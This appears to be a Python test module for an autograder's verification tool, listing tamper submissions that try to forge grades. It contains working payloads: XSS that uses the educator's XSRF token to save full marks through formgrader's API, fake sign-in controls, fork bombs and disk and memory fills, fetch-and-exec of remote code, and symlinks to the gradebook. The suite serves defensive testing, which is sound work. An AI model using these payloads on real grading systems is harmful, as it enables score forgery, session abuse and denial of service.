"""Tamper cases: submissions that try to earn points the code beneath them does not.

Each rides on an honest submission (the blank release, or an educator case) and adds
a trick to one learner cell: rebinding ``grade``, an IPython hook that displays "ok",
a cell whose last value is a string, a ``finish`` that looks for the crash injector,
a ``finish`` that looks for its plan (in its memory, up its stack, in files an earlier run left),
one that keeps notes across runs (unwritable files, SysV shared memory, a message queue), one that
leaves a helper process to finish its work after the kill,
writes through a connection of its own (before, after or inside a commit it reports
itself), a claim that looks outside its transaction,
a Unit A that smuggles a cheat into Unit B; one that fetches the reference from a
service on the grading machine's loopback (``AnswerServer``: the network must be shut);
one for each resource limit, which takes the grading kernel's memory, processes,
output, temporary folder, working folder, socket folder, time or standard streams; and a written answer
and outputs that carry script for the educator's browser, Markdown that would split if parsed again,
markup dressed as formgrader's controls, and cell metadata that hides a cell. ``lucy verify-grader`` autogrades each
one next to its honest base: a tamper case must never score more than its base.
"""

from __future__ import annotations

import json
import threading
from dataclasses import dataclass, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from ..errors import UnknownCase
from ..educator.cases import SESSION_LOOKUP, Case, Edit

ANSWER_URL = "ANSWER_URL"
"""Stands in a tamper's code for the address of the ``AnswerServer`` of this run."""


@dataclass(frozen=True)
class Append:
    """Add module-level code at the end of one learner cell."""

    cell: str
    code: str

    def apply(self, source: str) -> str:
        return source.rstrip() + "\n\n\n" + self.code.strip() + "\n"


@dataclass(frozen=True)
class Written:
    """Replace a written answer (a Markdown cell the learner writes) with ``text``."""

    cell: str
    text: str

    def apply(self, source: str) -> str:
        return self.text


@dataclass(frozen=True)
class Metadata:
    """Merge ``metadata`` into one learner cell's metadata (its source stays as it is)."""

    cell: str
    metadata: tuple[tuple[str, object], ...]

    def apply(self, source: str) -> str:
        return source

    def apply_cell(self, cell) -> None:
        cell.metadata.update(dict(self.metadata))


@dataclass(frozen=True)
class Planted:
    """A file of the hand-in that is not a file: ``kind`` "link" to ``target`` ("source": the course's
    source notebook of the unit; "gradebook": the gradebook), or "fifo". It goes through collect."""

    name: str
    kind: str
    target: str = ""


@dataclass(frozen=True)
class Tamper:
    name: str
    unit: str
    honest: str  # "blank-release", or the name of the educator case it rides on
    edits: tuple[Edit | Append | Written | Metadata, ...]  # applied after the honest base's own edits
    trick: str
    unit_a_edits: tuple[Edit | Append, ...] = ()  # for Unit B: tricks placed in the learner's Unit A
    planted: tuple[Planted, ...] = ()  # links and FIFOs in the hand-in folder, collected as collect does
    needs_sandbox: bool = False
    """Held by the grading sandbox alone (each run of a row from nothing, a kill that ends every process of
    the run): without bubblewrap, learner code is not isolated and such a trick may forge points."""

    def as_case(self, base: Case | None, answer_url: str = "http://127.0.0.1:9/") -> Case:
        """The honest base's edits followed by the trick's, as one case (for the checker and ``lucy check``).

        ``answer_url`` is where this run's ``AnswerServer`` listens (a closed port when there is none)."""
        trick = tuple(replace(e, code=e.code.replace(ANSWER_URL, answer_url)) if isinstance(e, Append) else e
                      for e in self.unit_a_edits + self.edits)
        edits = (base.edits if base else ()) + trick
        return Case(self.name, self.unit, edits, self.trick, (), "")  # type: ignore[arg-type]


_FAKE_GRADE = '''
def grade(row_id, namespace=None):
    return "looks fine"


def ready(*names, **kwargs):
    return None
'''

_DISPLAY_OK = '''
get_ipython().events.register(
    "pre_run_cell", lambda info: "grade(" in info.raw_cell and get_ipython().displayhook("ok"))
'''

_INTERACTIVITY = '''
get_ipython().ast_node_interactivity = "all"


def ready(*names, **kwargs):
    return "all rows ready"
'''

_SECOND_TX = "    with queue.store.transaction() as tx:\n" + SESSION_LOOKUP  # as finish-two-transactions leaves it
_SNIFF = (
    "    import os as _os, sys as _sys\n"
    "    _probes = [type(getattr(queue.store, '_hook', None)).__name__,\n"
    "               type(getattr(_sys.modules.get('lucy_runtime.store'), '_process_hook', None)).__name__]\n"
    "    if any(n in ('KillAt', 'CrashAtWrite', 'FailAt', 'Probe') for n in _probes):\n"
    "        _os._exit(77)\n"
)

_LOOK_FOR_THE_PLAN = '''
import gc as _gc, hashlib as _hashlib, os as _os, sys as _sys, tempfile as _tempfile

_PLANS = ("KillAt", "FailAt", "Stop", "PauseForRival", "Rival", "CrashAtWrite", "FaultAt")


def _will_be_stopped(queue, assignment):
    """True when anything in this process, or left behind by an earlier run of this request, says a stop is coming."""
    if any(type(o).__name__ in _PLANS for o in _gc.get_objects()):
        return True
    frame = _sys._getframe()
    while frame is not None:
        if any(type(v).__name__ in _PLANS for v in list(frame.f_locals.values())):
            return True
        frame = frame.f_back
    # The counting run comes first, then one run per crash point: a later run of this request in this
    # folder may be stopped. Counted in the folder itself and, out of the checker's reach, in /tmp.
    folder = _os.path.dirname(_os.path.abspath(queue.store.path))
    key = _hashlib.sha1(f"{folder} {assignment.text}".encode()).hexdigest()[:16]
    seen = False
    for place in (folder, _tempfile.gettempdir()):
        mark = _os.path.join(place, f".runs-{key}")
        try:
            seen = seen or _os.path.exists(mark)
            with open(mark, "a") as fh:
                fh.write("x")
        except OSError:
            pass
    return seen


def _store_report(tx, assignment, result):
    row = tx.execute("SELECT session_id FROM work WHERE work_id = ?", (assignment.work_id,)).fetchone()
    report = Report(f"r-{assignment.work_id}-{assignment.generation}", assignment.work_id, assignment.generation,
                    row["session_id"], result.text)
    tx.execute("INSERT INTO report (report_id, work_id, generation, session_id, body) VALUES (?, ?, ?, ?, ?)",
               (report.report_id, report.work_id, report.generation, report.session_id, report.body))
    return report
'''

_STORE_REPORT = _LOOK_FOR_THE_PLAN[_LOOK_FOR_THE_PLAN.index("def _store_report"):]

_FINISH_UNLESS_STOPPED = '''one_transaction = _will_be_stopped(queue, assignment)
with queue.store.transaction() as tx:
    moved = tx.execute("UPDATE work SET state = 'done' WHERE work_id = ? AND state = 'running' AND worker_id = ? "
                       "AND generation = ?", (assignment.work_id, assignment.worker_id, assignment.generation)).rowcount
    if moved != 1:
        raise FenceError(f"work {assignment.work_id!r} is not running under this claim")
    if one_transaction:
        report = _store_report(tx, assignment, result)
if one_transaction:  # as many points as the split finish passes, so every planned stop is reached
    with queue.store.transaction() as tx:
        tx.execute("UPDATE work SET state = state WHERE work_id = ?", (assignment.work_id,))
    return report
with queue.store.transaction() as tx:
    return _store_report(tx, assignment, result)'''

_NOTES = '''
import ctypes as _ctypes, hashlib as _hashlib, os as _os, tempfile as _tempfile

_LIBC = _ctypes.CDLL(None, use_errno=True)
NOTE = "note"
CHANNELS = ("files", "shm", "mqueue")
PLACES = None  # where the files go besides its own folder: the temporary folder, /dev/shm, the working folder


def _note_name(queue, assignment):
    folder = _os.path.dirname(_os.path.abspath(queue.store.path))
    return NOTE + "-" + _hashlib.sha1(f"{folder} {assignment.text}".encode()).hexdigest()[:12]


def _notes_left(queue, assignment):
    """Leave notes where a wipe between runs would miss them; say whether an earlier run's were there."""
    name = _note_name(queue, assignment)
    found = False
    places = [_os.path.dirname(_os.path.abspath(queue.store.path))] + (PLACES or [_tempfile.gettempdir(), "/dev/shm", "."])
    for place in dict.fromkeys(map(_os.path.realpath, places)) if "files" in CHANNELS else ():
        note = _os.path.join(place, "." + name)  # a folder made unwritable, holding a file of mode 0
        found = found or _os.path.exists(note)
        try:
            _os.mkdir(note, 0o700)
            open(_os.path.join(note, "seen"), "w").close()
            _os.chmod(_os.path.join(note, "seen"), 0)
            _os.chmod(note, 0o500)
        except OSError:
            pass
    if "shm" in CHANNELS:  # SysV shared memory
        key = int(_hashlib.sha1(name.encode()).hexdigest()[:7], 16)
        found = found or _LIBC.shmget(key, 0, 0) >= 0
        _LIBC.shmget(key, 4096, 0o1000 | 0o600)
    if "mqueue" in CHANNELS:  # a POSIX message queue
        queue_name = ("/" + name).encode()
        opened = _LIBC.mq_open(queue_name, _os.O_RDONLY)
        found = found or opened >= 0
        if opened < 0:
            opened = _LIBC.mq_open(queue_name, _os.O_RDONLY | _os.O_CREAT, 0o600, None)
        if opened >= 0:
            _LIBC.mq_close(opened)
    return found


_will_be_stopped = _notes_left
'''

_SPLIT_WITH_HELPER = '''with queue.store.transaction() as tx:
    moved = tx.execute("UPDATE work SET state = 'done' WHERE work_id = ? AND state = 'running' AND worker_id = ? "
                       "AND generation = ?", (assignment.work_id, assignment.worker_id, assignment.generation)).rowcount
    if moved != 1:
        raise FenceError(f"work {assignment.work_id!r} is not running under this claim")
done = _leave_a_helper(queue, assignment, result)
with queue.store.transaction() as tx:
    report = _store_report(tx, assignment, result)
_os.write(done, b"x")
return report'''

_HELPER = '''
import os as _os, sqlite3 as _sqlite3


def _leave_a_helper(queue, assignment, result):
    """A process of its own that commits the report if this one dies before it does; the pipe to tell it it did."""
    own = _sqlite3.connect(queue.store.path, isolation_level=None, timeout=10)
    own.execute("SELECT count(*) FROM work").fetchone()  # its files open now: it follows them wherever they go
    folder = _os.path.dirname(_os.path.abspath(queue.store.path))
    told, tell = _os.pipe()
    if _os.fork() == 0:
        try:
            _os.setsid()
            for fd in map(int, _os.listdir("/proc/self/fd")):  # none of the checker's pipes
                try:
                    if fd > 2 and fd != told and not _os.readlink(f"/proc/self/fd/{fd}").startswith(folder):
                        _os.close(fd)
                except OSError:
                    pass
            if _os.read(told, 1):
                return
            row = own.execute("SELECT session_id FROM work WHERE work_id = ?", (assignment.work_id,)).fetchone()
            report_id = f"r-{assignment.work_id}-{assignment.generation}"
            own.execute("INSERT INTO report (report_id, work_id, generation, session_id, body) SELECT ?, ?, ?, ?, ? "
                        "WHERE NOT EXISTS (SELECT 1 FROM report WHERE report_id = ?)",
                        (report_id, assignment.work_id, assignment.generation, row[0], result.text, report_id))
        finally:
            _os._exit(0)
    _os.close(told)
    return tell
'''

_PRIVATE_FINISH = '''import sqlite3
work_id = assignment.work_id
with queue.store.transaction() as tx:
    row = tx.execute(
        "SELECT session_id, generation FROM work WHERE work_id = ? AND state = 'running'", (work_id,)
    ).fetchone()
if row is None:
    raise LookupError(f"work {work_id!r} is not running")
report = Report(f"r-{work_id}-{row['generation']}", work_id, row["generation"], row["session_id"], result.text)
own = sqlite3.connect(queue.store.path, isolation_level=None)
own.execute("UPDATE work SET state = 'done' WHERE work_id = ?", (work_id,))
own.execute(
    "INSERT INTO report (report_id, work_id, generation, session_id, body) VALUES (?, ?, ?, ?, ?)",
    (report.report_id, report.work_id, report.generation, report.session_id, report.body),
)
own.close()
return report'''

_PRIVATE_LOOK_CLAIM = '''import sqlite3
own = sqlite3.connect(queue.store.path)
own.row_factory = sqlite3.Row
row = own.execute(
    "SELECT work_id, source_id, session_id, text, generation FROM work WHERE state = 'pending' "
    "ORDER BY work_id LIMIT 1"
).fetchone()
own.close()
if row is None:
    return None
with queue.store.transaction() as tx:
    tx.execute("UPDATE work SET state = 'running', worker_id = ? WHERE work_id = ?", (worker_id, row["work_id"]))
return Assignment(row["work_id"], row["source_id"], row["session_id"], row["text"], worker_id, row["generation"])'''

_REPORT_AFTER_COMMIT = '''import sqlite3
work_id, generation = assignment.work_id, assignment.generation
with queue.store.transaction() as tx:
    moved = tx.execute("UPDATE work SET state = 'done' WHERE work_id = ? AND state = 'running' AND worker_id = ? "
                       "AND generation = ?", (work_id, assignment.worker_id, generation)).rowcount
    if moved != 1:
        raise FenceError(f"work {work_id!r} is not running under this claim")
    row = tx.execute("SELECT session_id FROM work WHERE work_id = ?", (work_id,)).fetchone()
report = Report(f"r-{work_id}-{generation}", work_id, generation, row["session_id"], result.text)
own = sqlite3.connect(queue.store.path, isolation_level=None)
own.execute("INSERT INTO report (report_id, work_id, generation, session_id, body) VALUES (?, ?, ?, ?, ?)",
            (report.report_id, report.work_id, report.generation, report.session_id, report.body))
own.close()
return report'''

_FORGED_COMMIT = '''import sqlite3
from lucy_runtime.engine.child import report_point
work_id, generation = assignment.work_id, assignment.generation
with queue.store.transaction() as tx:
    row = tx.execute("SELECT session_id FROM work WHERE work_id = ? AND state = 'running' AND worker_id = ? "
                     "AND generation = ?", (work_id, assignment.worker_id, generation)).fetchone()
    if row is None:
        raise FenceError(f"work {work_id!r} is not running under this claim")
    tx.execute("UPDATE work SET worker_id = worker_id WHERE work_id = ?", (work_id,))
report = Report(f"r-{work_id}-{generation}", work_id, generation, row["session_id"], result.text)
report_point("commit", "COMMIT")
own = sqlite3.connect(queue.store.path, isolation_level=None)
own.execute("UPDATE work SET state = 'done' WHERE work_id = ?", (work_id,))
own.execute("INSERT INTO report (report_id, work_id, generation, session_id, body) VALUES (?, ?, ?, ?, ?)",
            (report.report_id, report.work_id, report.generation, report.session_id, report.body))
own.close()
report_point("committed", "COMMIT")
return report'''

_FETCH_THE_ANSWER = '''
import json as _json, urllib.request as _request
try:  # an answer from a service on the grading machine (or anywhere else on the network)
    with _request.urlopen("ANSWER_URL", timeout=3) as _answer:
        for _name, _source in _json.load(_answer):
            exec(_source, globals())
except OSError:
    pass
'''

_IN_THE_KERNEL = 'if __name__ == "__main__":  # the grading kernel only: the sealed re-check is the hostile class test\'s\n'
_MEMORY = _IN_THE_KERNEL + "    _hog = []\n    while True:\n        _hog.append(b'x' * (64 << 20))\n"
_FORK = (_IN_THE_KERNEL + "    import os as _os, time as _time\n    while True:\n        if _os.fork() == 0:\n"
         "            _time.sleep(3600)\n            _os._exit(0)\n")
_PRINT = _IN_THE_KERNEL + "    while True:\n        print('x' * 4000)\n"
_FILL_TMP = (_IN_THE_KERNEL + "    _n = 0\n    while True:\n        with open(f'/tmp/fill-{_n}', 'wb') as _f:\n"
             "            _f.write(b'x' * (16 << 20))\n        _n += 1\n")
_FILL_WORK = (_IN_THE_KERNEL + "    _n = 0\n    while True:\n        with open(f'fill-{_n}', 'wb') as _f:\n"
              "            _f.write(b'x' * (16 << 20))\n        _n += 1\n")
_FILL_SOCKETS = (_IN_THE_KERNEL + "    import json as _json, os as _os\n"
                 "    _dir = _os.path.dirname(_json.load(open('/run/lucy/kernel.json'))['ip'])\n"
                 "    _n = 0\n    while True:\n        with open(_os.path.join(_dir, f'fill-{_n}'), 'wb') as _f:\n"
                 "            _f.write(b'x' * (4 << 20))\n        _n += 1\n")
_SLEEP = _IN_THE_KERNEL + "    import time as _time\n    _time.sleep(10 ** 6)\n"
_CLOSE_STD = _IN_THE_KERNEL + "    import os as _os\n    _os.close(1)\n    _os.close(2)\n"

def runs_as_the_educator(kind: str) -> str:
    """JavaScript that marks the page it ran in (``top.lucyRan`` lists each ``kind``) and, in
    formgrader's grading page, gives every cell of the submission full marks through formgrader's
    own API. Single quotes only, so it also fits in an HTML attribute; its value is undefined, so as a
    ``javascript:`` link it leaves the page in place."""
    return ("top.lucyRan=(top.lucyRan||[]).concat(['" + kind + "']);"
            "var m=top.location.pathname.match(/submissions[/]([^/]+)/);"
            "var x=(top.document.cookie.match(/_xsrf=([^;]+)/)||[])[1];"
            "if(m)fetch('/formgrader/api/grades?submission_id='+m[1]).then(function(r){return r.json()})"
            ".then(function(gs){gs.forEach(function(g){fetch('/formgrader/api/grade/'+g.id,{method:'PUT',"
            "headers:{'X-XSRFToken':x},body:JSON.stringify({manual_score:g.max_score})})})});void 0;")


HOSTILE_ANSWER = f"""The worker's row stays running: nothing replays it.

<script>{runs_as_the_educator("script")}</script>

<img src="no-such-image" onerror="{runs_as_the_educator("img-onerror")}">

<svg onload="{runs_as_the_educator("svg-onload")}"><script>{runs_as_the_educator("svg-script")}</script></svg>

<iframe srcdoc="<script>{runs_as_the_educator("iframe-srcdoc")}</script>"></iframe>

<details open ontoggle="{runs_as_the_educator("details-ontoggle")}"><summary>more</summary>and more</details>

<a id="lucy-html-link" href="javascript:{runs_as_the_educator("html-link")}">a link to click</a>

[a Markdown link to click](javascript:void(top.lucyRan=(top.lucyRan||[]).concat('markdown-link')))
"""
"""A written answer with script in each form a page can run it: shown as it is, it would save scores."""

_HOSTILE_OUTPUTS = f'''
from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("""<script>{runs_as_the_educator("html-output")}</script><b>an HTML output</b>"""))
display(Javascript("""{runs_as_the_educator("javascript-output")}"""))
display(SVG("""<svg xmlns="http://www.w3.org/2000/svg"><script>{runs_as_the_educator("svg-output")}</script></svg>"""))
display(Markdown("""<img src="no-such-image" onerror="{runs_as_the_educator("markdown-output")}">"""))
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2, "version_minor": 0}},
         "text/plain": "a widget"}}, raw=True)
'''

SPLIT_AFTER_CLEANING = f"""The worker's row stays running: nothing replays it. What I ran:

```
select state from jobs
\x0c
![tracker](https://tracker.example/pixel.png)
[the proof](javascript:{runs_as_the_educator("split-link")})
```
"""
"""A written answer whose code block holds a form-feed line: blank to Markdown, not to an HTML block's rule.
Cleaned HTML stored for Markdown to parse again would end there and show the rest as an image from any
address and a link."""

FAKE_CONTROLS = """The worker's row stays running: nothing replays it.

<div class="navbar navbar-fixed-top alert alert-success" id="statusmessage"
     style="position: fixed; top: 0; left: 0; width: 100%; z-index: 99999">Full credit saved for every cell.
<a class="btn btn-primary" href="https://grades.example/sign-in">Sign in again</a></div>
<span class="pull-right btn btn-success full-credit" style="position: fixed; top: 8px; right: 40px">Next &rarr;</span>
"""
"""A written answer dressed as formgrader: a fixed bar and a "full credit saved" banner over the real one,
and a fake *Next* where formgrader's sits, leading elsewhere."""

HIDDEN = (("transient", {"remove_source": True}), ("jupyter", {"source_hidden": True, "outputs_hidden": True}),
          ("tags", ["remove_cell", "remove_input", "hide-input"]))
"""Cell metadata that notebook viewers and nbconvert honour to leave a cell (or its code) out of a page."""

TAMPERS: tuple[Tamper, ...] = (
    Tamper("rebind-grade", "ch07_unit_a", "blank-release", (Append("schema", _FAKE_GRADE),),
           "A blank notebook whose first cell rebinds grade() and ready() to functions that never fail."),
    Tamper("rebind-grade-b", "ch07_unit_b", "blank-release", (Append("deliver_one", _FAKE_GRADE),),
           "The same in Unit B."),
    Tamper("display-ok", "ch07_unit_a", "blank-release", (Append("schema", _DISPLAY_OK),),
           "An IPython hook that displays 'ok' as the result of every cell that calls grade()."),
    Tamper("last-value-string", "ch07_unit_a", "blank-release", (Append("schema", _INTERACTIVITY),),
           "Every expression's value is shown and ready() returns a string: nbgrader gives full credit to a "
           "cell whose result is not a number."),
    Tamper("sniff-the-injector", "ch07_unit_a", "finish-two-transactions",
           (Edit("finish", _SECOND_TX, _SNIFF + _SECOND_TX),),
           "finish in two transactions that exits with the crash status whenever it finds a checker hook, so "
           "the crash between the two commits is never seen."),
    Tamper("look-for-the-plan", "ch07_unit_a", "finish-two-transactions",
           (Edit("finish", None, _FINISH_UNLESS_STOPPED), Append("finish", _LOOK_FOR_THE_PLAN)),
           "finish in two transactions, except in a run it believes will be stopped: it searches its own memory "
           "and stack for the checker's plan, and counts the runs of its request in files it leaves in its "
           "folder and the temporary folder (the counting run comes first)."),
    Tamper("notes-across-runs", "ch07_unit_a", "finish-two-transactions",
           (Edit("finish", None, _FINISH_UNLESS_STOPPED), Append("finish", _NOTES + _STORE_REPORT)),
           "finish in two transactions, except in a run that finds notes an earlier run of its request left: "
           "a folder it made unwritable holding a file of mode 0 (in its folder, /tmp and /dev/shm), SysV shared "
           "memory, a POSIX message queue. Each run starts from nothing, so none finds one.", needs_sandbox=True),
    Tamper("helper-finishes-after-kill", "ch07_unit_a", "finish-two-transactions",
           (Edit("finish", None, _SPLIT_WITH_HELPER), Append("finish", _HELPER + _STORE_REPORT)),
           "finish in two transactions that first leaves a helper process with a connection of its own, which "
           "commits the report if finish dies before it does. A kill stops every process of the run at once.",
           needs_sandbox=True),
    Tamper("private-connection-finish", "ch07_unit_a", "finish-two-transactions",
           (Edit("finish", None, _PRIVATE_FINISH),),
           "finish checks through the store but writes through a connection of its own, where no crash point is."),
    Tamper("private-report-after-commit", "ch07_unit_a", "finish-two-transactions",
           (Edit("finish", None, _REPORT_AFTER_COMMIT),),
           "finish commits the move to done through the store, then inserts the report through a connection of "
           "its own, after the last point the checker is told of."),
    Tamper("forged-commit-window", "ch07_unit_a", "finish-two-transactions",
           (Edit("finish", None, _FORGED_COMMIT),),
           "finish reports a COMMIT to the checker itself, then commits the move to done and the report "
           "separately through a connection of its own inside that one window."),
    Tamper("private-look-claim", "ch07_unit_a", "claim-check-then-act",
           (Edit("claim", None, _PRIVATE_LOOK_CLAIM),),
           "claim looks through a connection of its own before its transaction, so a rival pause at a later "
           "BEGIN would never see the race."),
    Tamper("cheat-carried-from-unit-a", "ch07_unit_b", "delivery-confirms-before-send", (),
           "A Unit A cell rebinds grade() and ready(); Unit B loads Unit A, hoping the cheat comes along.",
           unit_a_edits=(Append("schema", _FAKE_GRADE),)),
    Tamper("fetch-the-answer", "ch07_unit_a", "blank-release", (Append("work_once", _FETCH_THE_ANSWER),),
           "A blank notebook whose last cell fetches the reference's cells from a service on the grading "
           "machine's loopback and runs them: the network inside the sandbox must be shut."),
    Tamper("memory-without-end", "ch07_unit_a", "reference", (Append("schema", _MEMORY),),
           "The reference, with a first cell that allocates memory until the kernel is stopped."),
    Tamper("fork-without-end", "ch07_unit_a", "reference", (Append("schema", _FORK),),
           "The reference, with a first cell that forks until no process is left to start."),
    Tamper("print-without-end", "ch07_unit_a", "reference", (Append("schema", _PRINT),),
           "The reference, with a first cell that prints until the output limit interrupts it."),
    Tamper("fill-the-temporary-folder", "ch07_unit_a", "reference", (Append("schema", _FILL_TMP),),
           "The reference, with a first cell that writes files into /tmp until it is full."),
    Tamper("fill-the-working-folder", "ch07_unit_a", "reference", (Append("schema", _FILL_WORK),),
           "The reference, with a first cell that writes files into the folder it runs in until it is full."),
    Tamper("fill-the-socket-folder", "ch07_unit_a", "reference", (Append("schema", _FILL_SOCKETS),),
           "The reference, with a first cell that writes files into the folder of its kernel's Unix sockets "
           "(named in its connection file) until it is full."),
    Tamper("sleep-forever", "ch07_unit_a", "reference", (Append("schema", _SLEEP),),
           "The reference, with a first cell that sleeps until the cell's time limit interrupts it."),
    Tamper("close-its-own-streams", "ch07_unit_a", "reference", (Append("schema", _CLOSE_STD),),
           "The reference, with a first cell that closes the kernel's own stdout and stderr."),
    Tamper("linked-notebook", "ch07_unit_a", "blank-release", (),
           "The hand-in's notebook is a symbolic link to the course's source notebook, which holds the "
           "reference: a collect that follows links grades the reference as the learner's.",
           planted=(Planted("ch07_unit_a.ipynb", "link", "source"),)),
    Tamper("links-in-the-hand-in", "ch07_unit_a", "blank-release", (),
           "A blank notebook handed in beside links to the reference notebook and the gradebook and a FIFO, "
           "for learner code or a later grading step to read.",
           planted=(Planted("reference.ipynb", "link", "source"), Planted("gradebook.db", "link", "gradebook"),
                    Planted("pipe", "fifo"))),
    Tamper("script-in-written-answer", "ch07_unit_a", "blank-release",
           (Written("explain_worker_crash", HOSTILE_ANSWER), Append("schema", _HOSTILE_OUTPUTS)),
           "A blank notebook whose written answer and outputs carry script (<script>, onerror, SVG, iframe, "
           "javascript: links, a JavaScript output) that would give it full marks through formgrader's API "
           "when the educator opens it."),
    Tamper("markdown-split-after-cleaning", "ch07_unit_a", "blank-release",
           (Written("explain_worker_crash", SPLIT_AFTER_CLEANING),),
           "A blank notebook whose written answer would split when cleaned HTML is parsed as Markdown again: "
           "an image from any address and a javascript: link that saves full marks."),
    Tamper("fake-formgrader-controls", "ch07_unit_a", "blank-release",
           (Written("explain_worker_crash", FAKE_CONTROLS),),
           "A blank notebook whose written answer uses class, id and style to lay a fake formgrader bar, a "
           "'full credit saved' banner and a fake Next over the real controls."),
    Tamper("hidden-cell", "ch07_unit_a", "blank-release",
           (Append("schema", _FAKE_GRADE), Metadata("schema", HIDDEN)),
           "A blank notebook whose cell that rebinds grade() carries metadata that hides it from a page "
           "(transient remove_source, jupyter.source_hidden, remove_cell tags)."),
)


class AnswerServer:
    """A service on this machine's loopback that hands out the reference's learner cells as JSON:
    what learner code with the network in reach could fetch. ``url`` is where it listens."""

    def __init__(self, cells: list[tuple[str, str]]):
        body = json.dumps([list(c) for c in cells]).encode()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - http.server's name
                fetched.append(self.path)

        fetched: list[str] = []
        self.fetched = fetched
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/cells"
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)

    def __enter__(self) -> "AnswerServer":
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()


def tamper_by_name(name: str) -> Tamper:
    for tamper in TAMPERS:
        if tamper.name == name:
            return tamper
    raise UnknownCase(f"no tamper case named {name!r}")
